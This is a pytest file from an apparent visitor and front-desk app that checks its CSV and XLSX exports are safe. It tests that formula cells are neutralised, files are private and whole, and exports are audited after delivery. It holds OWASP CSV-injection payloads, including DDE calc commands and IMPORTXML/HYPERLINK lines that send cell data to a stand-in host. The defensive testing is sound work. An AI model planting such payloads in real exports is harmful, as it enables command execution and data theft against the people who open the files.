"""Every export is spreadsheet-safe, private (0600), whole or absent, and audited after the fact.

The OWASP "CSV injection" payloads go through every CSV and XLSX export (the day report
with names, the period report, invoices, the partner report, the pack report): no cell a
spreadsheet would run as a formula comes out, numbers stay numbers.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from frontdesk.db.models import Appointment, AuditEvent, PackType, Partner, Visitor
from frontdesk.services import Actor, Services, ValidationError
from frontdesk.services.exports import (
    FORMULA_STARTS,
    csv_text,
    is_formula,
    safe_cell,
    write_private,
)
from frontdesk.services.partners import PartnerInput
from frontdesk.services.reports import Period
from frontdesk.services.visitors import VisitorInput
from tests.helpers import DAY, add_ticket, at, household, tick_all

# OWASP's CSV-injection examples and their usual variations (fictitious hosts only).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/","Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "@SUM(A1:A9)",
    '+HYPERLINK("http://evil.example/")',
    "\t=1+2",
    "\r=1+2",
    '="";=1',
    "-=1",
    "==1",
]


def test_the_cell_rules() -> None:
    for payload in PAYLOADS:
        assert is_formula(payload)
        assert safe_cell(payload) == "'" + payload
    for harmless in ("Anne", "1+2", "'=1", "", " =1", "-", "12.5%", "-0.5", "+31", "42"):
        if harmless in ("-",):
            assert safe_cell(harmless) == "'-"  # a lone sign is not a number
            continue
        assert safe_cell(harmless) == harmless
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    parsed = next(csv.reader(io.StringIO(csv_text([["=1+2", -1, 0.5, None, "-1.5"]]))))
    assert parsed == ["'=1+2", "-1", "0.5", "", "-1.5"]


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_safe_csv(data: bytes, payloads: list[str]) -> None:
    cells = _csv_cells(data)
    running = [c for c in cells if is_formula(c)]
    assert running == [], running
    for payload in payloads:  # each payload is there, made inert, not lost
        assert any(c.startswith("'" + payload) for c in cells), payload


def assert_safe_xlsx(data: bytes, payloads: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name  # no formula cell
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                values.append(cell.value)
    for payload in payloads:  # stored as typed (an explicit text cell), not lost
        typed = payload.replace("\r", "\n")  # XML reads a bare CR back as LF
        assert any(isinstance(v, str) and v.startswith((payload, typed)) for v in values), payload


def _names(services: Services, payloads: list[str]) -> None:
    for i, payload in enumerate(payloads):
        now = services.clock.now()
        with services.db.write() as session:
            row = Visitor(
                given_names=payload,
                family_name="Person",
                search_key=f"p{i}",
                family_key="person",
                created_at=now,
                updated_at=now,
            )
            session.add(row)
            session.flush()
            visitor = row.id
        add_ticket(services, "info", f"A{i:03d}", at(DAY, 9, i), visitor_id=visitor)


def test_report_exports_are_spreadsheet_safe(
    services: Services, lead: Actor, tmp_path: Path
) -> None:
    _names(services, PAYLOADS)
    csv_data = services.reports.export_day(lead, DAY, "csv", with_names=True)
    assert_safe_csv(csv_data, PAYLOADS)
    xlsx_data = services.reports.export_day(lead, DAY, "xlsx", with_names=True)
    assert_safe_xlsx(xlsx_data, PAYLOADS)
    # numbers stay numbers
    book = load_workbook(io.BytesIO(xlsx_data))
    assert isinstance(book["summary"]["B2"].value, int)
    # the same through files: 0600, and what is in the file is what was made
    target = tmp_path / "day.xlsx"
    services.reports.export_day(lead, DAY, "xlsx", with_names=True, to=target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert_safe_xlsx(target.read_bytes(), PAYLOADS)
    period = services.reports.export_period(lead, Period(DAY, DAY), "csv")
    assert not [c for c in _csv_cells(period) if is_formula(c)]


def test_invoice_exports_are_spreadsheet_safe(
    services: Services, clerk: Actor, lead: Actor, tmp_path: Path
) -> None:
    ap = services.appointments.book(clerk, household(employer="LUMC", time="10:30"))
    services.appointments.check_in(clerk, ap.id)
    services.appointments.start(clerk, ap.id)
    tick_all(services, clerk, ap.id)
    # One BSN per person (fictitious numbers that pass the 11-test).
    for person, bsn in zip(ap.persons, ("100000009", "100000022", "100000034"), strict=False):
        services.appointments.record_bsn(clerk, person.id, "issued", bsn)
    services.appointments.complete(clerk, ap.id)
    visitor_ids = [p.visitor_id for p in ap.persons]
    for payload in PAYLOADS:
        with services.db.write() as session:
            session.execute(
                update(Appointment).where(Appointment.id == ap.id).values(employer=payload)
            )
            session.execute(
                update(Visitor).where(Visitor.id.in_(visitor_ids)).values(given_names=payload)
            )
        csv_path, xlsx_path = tmp_path / "q4.csv", tmp_path / "q4.xlsx"
        services.appointments.export_invoices(lead, "2026Q4", "csv", csv_path)
        services.appointments.export_invoices(lead, "2026Q4", "xlsx", xlsx_path)
        assert_safe_csv(csv_path.read_bytes(), [payload])
        assert_safe_xlsx(xlsx_path.read_bytes(), [payload])
        for path in (csv_path, xlsx_path):
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    assert [c.value for c in sheet[2]][5] == 50.0  # the fee stays a number


def test_partner_report_is_spreadsheet_safe(
    services: Services, clerk: Actor, lead: Actor, tmp_path: Path
) -> None:
    visitor = services.visitors.register(clerk, VisitorInput(given_names="Zoë", family_name="Ø"))
    for i, payload in enumerate(PAYLOADS):
        partner = services.partners.add(lead, PartnerInput(name=f"Partner {i}", category="bank"))
        services.referrals.create(
            clerk,
            visitor_id=visitor.id,
            partner_id=partner.id,
            reason="a bank account",
            consent_given=True,
            consent_how="verbal",
        )
        with services.db.write() as session:
            session.execute(update(Partner).where(Partner.id == partner.id).values(name=payload))
    today = services.clock.today()
    for fmt, check in (("csv", assert_safe_csv), ("xlsx", assert_safe_xlsx)):
        target = tmp_path / f"partners.{fmt}"
        services.referrals.export_report(lead, today, today, fmt, to=target)
        check(target.read_bytes(), PAYLOADS)
        assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_pack_report_is_spreadsheet_safe(services: Services, lead: Actor, tmp_path: Path) -> None:
    for i, payload in enumerate(PAYLOADS):
        kind = services.packs.add_kind(lead, f"k{i}", f"Kind {i}")
        services.packs.receive(lead, kind.id, 2, "delivery")
        with services.db.write() as session:
            session.execute(update(PackType).where(PackType.id == kind.id).values(name=payload))
    target = tmp_path / "packs.csv"
    services.packs.export_csv(lead, "week", to=target)
    assert_safe_csv(target.read_bytes(), PAYLOADS)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


# -- private, whole, audited after the fact ------------------------------------------------
def test_write_private_is_0600_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0)
    try:
        target = tmp_path / "x.csv"
        target.write_text("old")
        target.chmod(0o644)
        write_private(target, b"new")
    finally:
        os.umask(old)
    assert target.read_bytes() == b"new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert os.listdir(tmp_path) == ["x.csv"]


def _full_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    """The disk fills up under the file being written: the first write goes through
    in part, the next one finds no space."""
    real = os.write
    writes = 0

    def half_then_full(fd: int, data: bytes) -> int:
        nonlocal writes
        writes += 1
        if writes > 1:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(fd, data[: len(data) // 2])

    monkeypatch.setattr(os, "write", half_then_full)


def test_a_full_disk_leaves_no_half_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "x.csv"
    target.write_bytes(b"the previous export")
    _full_disk(monkeypatch)
    with pytest.raises(ValidationError) as caught:
        write_private(target, b"a" * 10_000)
    assert caught.value.message == "the disk is full; nothing was written"
    assert target.read_bytes() == b"the previous export"  # untouched
    assert os.listdir(tmp_path) == ["x.csv"]  # no temporary file left


def test_places_that_are_not_files(tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match="that is a folder"):
        write_private(tmp_path, b"x")
    with pytest.raises(ValidationError, match="folder does not exist"):
        write_private(tmp_path / "missing" / "x.csv", b"x")
    if Path("/dev/full").exists():
        with pytest.raises(ValidationError, match="disk is full"):
            write_private(Path("/dev/full"), b"x")


def _exports(services: Services, lead: Actor) -> dict[str, Callable[[Path], Any]]:
    today = services.clock.today()
    return {
        "report.export": lambda to: services.reports.export_day(
            lead, today, "xlsx", with_names=True, to=to
        ),
        "referral.export": lambda to: services.referrals.export_report(
            lead, today, today, "xlsx", to=to
        ),
        "export.invoices": lambda to: services.appointments.export_invoices(
            lead, "2026Q4", "xlsx", to
        ),
        "pack.export": lambda to: services.packs.export_csv(lead, "week", to=to),
        "privacy.export": lambda to: services.privacy.export(
            lead, services.visitors.search(lead, "Olga Test")[0].id, to
        ),
    }


def _audits(services: Services, action: str) -> list[str]:
    with services.db.read() as session:
        return list(session.scalars(select(AuditEvent.result).where(AuditEvent.action == action)))


def test_failed_exports_are_not_audited_as_done(
    services: Services, clerk: Actor, lead: Actor, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    services.visitors.register(clerk, VisitorInput(given_names="Olga", family_name="Test"))
    for action, export in _exports(services, lead).items():
        out = tmp_path / "out"
        out.mkdir(exist_ok=True)
        folder_target = out if action == "privacy.export" else out / "out.xlsx"
        bad = [tmp_path / "missing" / "x.xlsx"]
        if action != "privacy.export":
            bad.append(out)  # a folder where a file was expected
        for target in bad:
            with pytest.raises(ValidationError):
                export(target)
        assert _audits(services, action) == [], action  # refused before anything was made
        if action != "privacy.export" and Path("/dev/full").exists():
            with pytest.raises(ValidationError, match="disk is full"):
                export(Path("/dev/full"))
            assert _audits(services, action) == ["failed"], action
        with monkeypatch.context() as patched:
            _full_disk(patched)
            with pytest.raises(ValidationError, match="disk is full"):
                export(folder_target)
        assert "ok" not in _audits(services, action), action
        assert [p.name for p in out.iterdir()] == [], action  # no half file
        export(folder_target)
        assert _audits(services, action)[-1] == "ok", action
        for made in out.iterdir():
            assert stat.S_IMODE(made.stat().st_mode) == 0o600
            made.unlink()


def test_to_a_callable_audits_after_delivery(services: Services, lead: Actor) -> None:
    got: list[bytes] = []
    services.packs.export_csv(lead, "week", to=got.append)
    assert got and _audits(services, "pack.export") == ["ok"]

    def broken(data: bytes) -> None:
        raise BrokenPipeError(errno.EPIPE, "Broken pipe")

    with pytest.raises(ValidationError):
        services.packs.export_csv(lead, "week", to=broken)
    assert _audits(services, "pack.export") == ["ok", "failed"]


def test_formula_starts_are_the_owasp_list() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
